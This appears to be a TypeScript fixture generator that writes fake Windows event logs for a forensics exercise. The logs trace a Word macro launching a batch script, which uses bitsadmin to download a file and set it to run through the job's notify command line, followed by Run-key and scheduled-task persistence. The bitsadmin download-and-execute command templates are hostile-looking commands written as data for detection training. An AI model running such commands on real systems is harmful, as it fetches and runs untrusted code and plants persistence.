import {bitsClientEvent, buildEvtx, type EventCommon, securityEvent, sysmonEvent, system7045Event} from '../parsers/evtx/writer.js'
import {BENIGN_JOBS, HOST, JOB, RUN_VALUE, SYSTEM_SID, T, TASK, USER} from './story.js'
import {MALICIOUS_TASK_XML} from './text-artefacts.js'

const USER_NAME = `${USER.domain}\\${USER.name}`
const BITS_SVCHOST = {image: 'C:\\Windows\\System32\\svchost.exe', commandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS', pid: 1788, guid: '{9C1B7E52-3A44-6737-1E00-000000001200}'}

function at(time: string, recordId: number, extra: Partial<EventCommon> = {}): EventCommon {
  return {computer: HOST, time, recordId, ...extra}
}

function sysmonUtc(iso: string): string {
  return iso.replace('T', ' ').replace(/(\.\d{3})\d*Z$/, '$1')
}

function processStart(time: string, recordId: number, p: {guid: string; pid: number; image: string; commandLine: string; user: string; integrity: string; parent: {guid: string; pid: number; image: string; commandLine: string; user: string}; currentDirectory?: string}) {
  return sysmonEvent(1, {
    RuleName: '-',
    UtcTime: sysmonUtc(time),
    ProcessGuid: p.guid,
    ProcessId: p.pid,
    Image: p.image,
    FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
    Description: '-',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: p.image.split('\\').pop()!.toUpperCase(),
    CommandLine: p.commandLine,
    CurrentDirectory: p.currentDirectory ?? 'C:\\Windows\\system32\\',
    User: p.user,
    LogonGuid: '{9C1B7E52-2F10-6737-A41C-0A0000000000}',
    LogonId: 0xa1ca4n,
    TerminalSessionId: 1,
    IntegrityLevel: p.integrity,
    Hashes: 'SHA256=0000000000000000000000000000000000000000000000000000000000000000',
    ParentProcessGuid: p.parent.guid,
    ParentProcessId: p.parent.pid,
    ParentImage: p.parent.image,
    ParentCommandLine: p.parent.commandLine,
    ParentUser: p.parent.user,
  }, at(time, recordId))
}

const WORD = {guid: '{9C1B7E52-3B16-6737-5A01-000000001200}', pid: 6612, image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\Rechnung_4471.docm"', user: USER_NAME}
const CMD = {guid: '{9C1B7E52-3B1B-6737-5C01-000000001200}', pid: 7020, image: 'C:\\Windows\\System32\\cmd.exe', user: USER_NAME}

function bitsadmin(time: string, recordId: number, pid: number, commandLine: string) {
  return processStart(time, recordId, {
    guid: `{9C1B7E52-3B1B-6737-${(0x5d01 + recordId).toString(16).toUpperCase()}-000000001200}`,
    pid,
    image: 'C:\\Windows\\System32\\bitsadmin.exe',
    commandLine,
    user: USER_NAME,
    integrity: 'Medium',
    parent: {...CMD, commandLine: 'C:\\Windows\\system32\\cmd.exe /c C:\\Users\\j.doe\\AppData\\Local\\Temp\\s.bat'},
    currentDirectory: 'C:\\Users\\j.doe\\Documents\\',
  })
}

/** Microsoft-Windows-Sysmon/Operational: the macro, the bitsadmin calls, the notify launch and its Run value; benign noise. */
export function sysmonLog(): Uint8Array {
  const events = [
    processStart(T.logon, 4101, {guid: '{9C1B7E52-2F12-6737-3001-000000001200}', pid: 4312, image: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', user: USER_NAME, integrity: 'Medium', parent: {guid: '{9C1B7E52-2F11-6737-2E01-000000001200}', pid: 4280, image: 'C:\\Windows\\System32\\userinit.exe', commandLine: 'C:\\Windows\\system32\\userinit.exe', user: USER_NAME}}),
    processStart(T.edgeJob, 4102, {guid: '{9C1B7E52-30A8-6737-4001-000000001200}', pid: 5012, image: BENIGN_JOBS[0]!.process, commandLine: `"${BENIGN_JOBS[0]!.process}" /ua /installsource scheduler`, user: 'NT AUTHORITY\\SYSTEM', integrity: 'System', parent: {guid: '{9C1B7E52-2E01-6737-0B00-000000001200}', pid: 1460, image: 'C:\\Windows\\System32\\svchost.exe', commandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', user: 'NT AUTHORITY\\SYSTEM'}}),
    processStart(T.word, 4103, {...WORD, integrity: 'Medium', parent: {guid: '{9C1B7E52-2F12-6737-3001-000000001200}', pid: 4312, image: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', user: USER_NAME}, currentDirectory: 'C:\\Users\\j.doe\\Documents\\'}),
    processStart(T.create, 4104, {...CMD, commandLine: 'C:\\Windows\\system32\\cmd.exe /c C:\\Users\\j.doe\\AppData\\Local\\Temp\\s.bat', integrity: 'Medium', parent: WORD, currentDirectory: 'C:\\Users\\j.doe\\Documents\\'}),
    bitsadmin(T.create, 4105, 7048, `bitsadmin  /create ${JOB.title}`),
    bitsadmin(T.addfile, 4106, 7064, `bitsadmin  /addfile ${JOB.title} ${JOB.url} ${JOB.local}`),
    bitsadmin(T.notify, 4107, 7080, `bitsadmin  -setnotifycmdline ${JOB.title} ${JOB.notifyProgram} "${JOB.notifyParameters}"`),
    bitsadmin(T.retry, 4108, 7096, `bitsadmin  /SetMinRetryDelay ${JOB.title} 60`),
    bitsadmin(T.resume, 4109, 7112, `bitsadmin  /resume ${JOB.title}`),
    sysmonEvent(11, {RuleName: '-', UtcTime: sysmonUtc(T.fileWritten), ProcessGuid: BITS_SVCHOST.guid, ProcessId: BITS_SVCHOST.pid, Image: BITS_SVCHOST.image, TargetFilename: JOB.local, CreationUtcTime: sysmonUtc(T.fileWritten), User: 'NT AUTHORITY\\SYSTEM'}, at(T.fileWritten, 4110)),
    processStart(T.notifyLaunch, 4111, {guid: '{9C1B7E52-3B21-6737-6301-000000001200}', pid: 7344, image: JOB.notifyProgram, commandLine: JOB.notifyParameters, user: USER_NAME, integrity: 'Medium', parent: {...BITS_SVCHOST, user: 'NT AUTHORITY\\SYSTEM'}}),
    sysmonEvent(13, {RuleName: 'T1060,RunKey', EventType: 'SetValue', UtcTime: sysmonUtc(T.runValue), ProcessGuid: '{9C1B7E52-3B21-6737-6301-000000001200}', ProcessId: 7344, Image: JOB.notifyProgram, TargetObject: `${RUN_VALUE.key.replace('HKEY_USERS', 'HKU')}\\${RUN_VALUE.name}`, Details: RUN_VALUE.data, User: USER_NAME}, at(T.runValue, 4112)),
    processStart(T.wmiadap, 4113, {guid: '{9C1B7E52-3D50-6737-7001-000000001200}', pid: 8120, image: 'C:\\Windows\\System32\\wbem\\WmiApSrv.exe', commandLine: 'C:\\Windows\\system32\\wbem\\WmiApSrv.exe', user: 'NT AUTHORITY\\SYSTEM', integrity: 'System', parent: {guid: '{9C1B7E52-2E01-6737-0800-000000001200}', pid: 688, image: 'C:\\Windows\\System32\\services.exe', commandLine: 'C:\\Windows\\system32\\services.exe', user: 'NT AUTHORITY\\SYSTEM'}}),
  ]
  return buildEvtx(events).bytes
}

/** Microsoft-Windows-Bits-Client/Operational: the attacker's job and two benign jobs. */
export function bitsClientLog(): Uint8Array {
  const [edge, font] = BENIGN_JOBS
  const life = (job: {id: string; title: string; owner: string; url: string; process: string; bytes: number}, first: number, times: [string, string, string], ownerSid: string, pid: number) => [
    bitsClientEvent(3, {jobTitle: job.title, jobId: job.id, jobOwner: job.owner, processPath: job.process, processId: pid}, at(times[0], first, {userSid: ownerSid})),
    bitsClientEvent(59, {transferId: '{D1C6A0B2-9E8F-4A7B-8C6D-5E4F3A2B1C0D}', name: job.title, Id: job.id, url: job.url, peer: '', fileTime: '2026-11-17T22:41:09.0000000Z', fileLength: BigInt(job.bytes), bytesTotal: BigInt(job.bytes), bytesTransferred: 0n, bytesTransferredFromPeer: 0n}, at(times[1], first + 1, {userSid: SYSTEM_SID})),
    bitsClientEvent(60, {transferId: '{D1C6A0B2-9E8F-4A7B-8C6D-5E4F3A2B1C0D}', name: job.title, Id: job.id, url: job.url, peer: '', hr: 0, fileTime: '2026-11-17T22:41:09.0000000Z', fileLength: BigInt(job.bytes), bytesTotal: BigInt(job.bytes), bytesTransferred: BigInt(job.bytes), proxy: '', peerProtocolFlags: 0, bytesTransferredFromPeer: 0n, AdditionalInfoHr: 0, PeerContextInfo: 0, bandwidthLimit: 0n, ignoreBandwidthLimitsOnLan: false}, at(times[2], first + 2, {userSid: SYSTEM_SID})),
  ]
  return buildEvtx([
    ...life({...edge!}, 20711, [T.edgeJob, T.edgeJob, T.edgeJob], SYSTEM_SID, 5012),
    ...life({...font!}, 20714, [T.fontJob, T.fontJob, T.fontJob], 'S-1-5-19', 1788),
    ...life({id: JOB.id, title: JOB.title, owner: `${USER.domain}\\${USER.name}`, url: JOB.url, process: 'C:\\Windows\\System32\\bitsadmin.exe', bytes: JOB.bytes}, 20717, [T.jobCreated, T.transferStarted, T.transferStopped], USER.sid, 7048),
  ]).bytes
}

/** Security: the interactive logon and the hidden task registered by the implant (4698 with its TaskContent). */
export function securityLog(): Uint8Array {
  return buildEvtx([
    securityEvent(4624, {SubjectUserSid: SYSTEM_SID, SubjectUserName: 'WS-FIN-07$', SubjectDomainName: USER.domain, SubjectLogonId: 0x3e7n, TargetUserSid: USER.sid, TargetUserName: USER.name, TargetDomainName: USER.domain, TargetLogonId: 0xa1ca4n, LogonType: 2, LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', WorkstationName: 'WS-FIN-07', LogonGuid: '{00000000-0000-0000-0000-000000000000}', TransmittedServices: '-', LmPackageName: '-', KeyLength: 0, ProcessId: 0x2a8n, ProcessName: 'C:\\Windows\\System32\\svchost.exe', IpAddress: '127.0.0.1', IpPort: '0', ImpersonationLevel: '%%1833', RestrictedAdminMode: '-', TargetOutboundUserName: '-', TargetOutboundDomainName: '-', VirtualAccount: '%%1843', TargetLinkedLogonId: 0n, ElevatedToken: '%%1843'}, at(T.logon, 93120)),
    securityEvent(4698, {SubjectUserSid: USER.sid, SubjectUserName: USER.name, SubjectDomainName: USER.domain, SubjectLogonId: 0xa1ca4n, TaskName: TASK.path, TaskContent: MALICIOUS_TASK_XML}, at(T.taskCreated, 93188)),
  ]).bytes
}

/** System: a benign service installation (Google Update) as noise. */
export function systemLog(): Uint8Array {
  return buildEvtx([
    system7045Event({ServiceName: 'Google Update Service (gupdate)', ImagePath: '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc', ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem'}, at('2026-11-16T14:03:27.6611230Z', 5530)),
  ]).bytes
}
